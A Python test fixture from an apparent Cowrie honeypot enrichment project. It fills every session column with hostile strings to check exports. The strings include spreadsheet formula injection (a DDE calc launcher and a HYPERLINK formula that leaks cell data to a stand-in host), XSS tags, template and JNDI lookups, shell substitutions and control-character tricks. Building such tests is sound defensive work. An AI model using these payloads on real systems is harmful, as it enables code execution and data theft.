"""Enriched sessions as an attacker would like to have them exported, in a database on each engine."""

from __future__ import annotations

from datetime import date, datetime, timedelta, timezone
from typing import Any

import pytest

from cowrie_enrich_dagster.storage.bulk import insert_rows
from cowrie_enrich_dagster.storage.engine import Database
from cowrie_enrich_dagster.storage.tables import EnrichedSession, table_of
from cowrie_enrich_dagster.vocabulary import Days

DAY = Days.parse("2025-11-01")
START = datetime(2025, 11, 1, 23, 59, 58, 123456, tzinfo=timezone.utc)

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://203.0.113.1/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+9)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \t =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "root;=1+1;@x",
    "root\t-1\n+2\r\n=3",
    "'=1+1",
    "''",
    "'",
    "a;'b\t'c",
    ";;==;",
    'quo"te,comma',
    '","=1+1","',
    "two\r\nlines\nand\rmore",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "{{ '7'*7 }} ${jndi:ldap://x} $(id) `id`",
    "\u202egnp.exe\u2028\u2029\x85\x01\x1b[31m",
    "пароль 密码 🦊 e\u0301",
    "null",
    "",
    "0123",
    "1e5",
    "x" * 200_000,
]


def session(number: int, **columns: Any) -> dict[str, Any]:
    """A row of `enriched_sessions`."""
    return {
        "sensor": "pot-1", "session_id": f"{number:012x}", "day": date(2025, 11, 1), "event_start": START,
        "event_end": START + timedelta(milliseconds=2500), "event_duration_ms": 2500,
        "network_protocol": "ssh", "source_ip": "8.8.4.4", "source_port": 40000, "destination_port": 2222,
        "user_name": None, "login_failures": 3, "login_successes": 1, "commands": 2, "downloads": 1,
        "uploads": 0, "source_scope": "global", "source_as_number": 4200000001,
        "source_as_organization_name": "Example Org", "source_geo_country_iso_code": "NO",
        "source_is_scanner": None, "source_is_tor": False, "source_abuse_score": 90,
        "source_classification": None, "source_reports": 12, "file_malicious": None, "file_label": None,
        "passwords_breached": None, "passwords_novel": None, "provenance": None, "intel": {},
        "knowledge": "before",
        **columns,
    }  # fmt: skip


def store(database: Database, rows: list[dict[str, Any]]) -> None:
    """Put rows into `enriched_sessions`."""
    with database.write() as connection:
        insert_rows(
            connection, table_of(EnrichedSession), list(rows[0]), [list(row.values()) for row in rows]
        )


@pytest.fixture
def hostile(database: Database) -> Database:
    """One session for each hostile text, which stands in every column an attacker or a service can fill."""
    store(
        database,
        [
            session(
                number,
                user_name=text,
                source_as_organization_name=text,
                file_label=text,
                source_classification=text,
                password=text,
                client_version=text,
                command_lines=[text],
                logins=[{"username": text, "password": text, "key": text, "success": True, "attempts": 1}],
                files=[{"sha256": "ab" * 32, "url": None, "name": text, "how": "upload"}],
                file_hashes=["ab" * 32],
                urls=["http://198.51.100.9/x"],
                tunnels=[{"host": text, "port": 443, "requests": 1}],
                provenance={"file_label": text},
                intel={"dshield": {"status": "found", "feed": text}},
            )
            for number, text in enumerate(HOSTILE)
        ],
    )
    return database
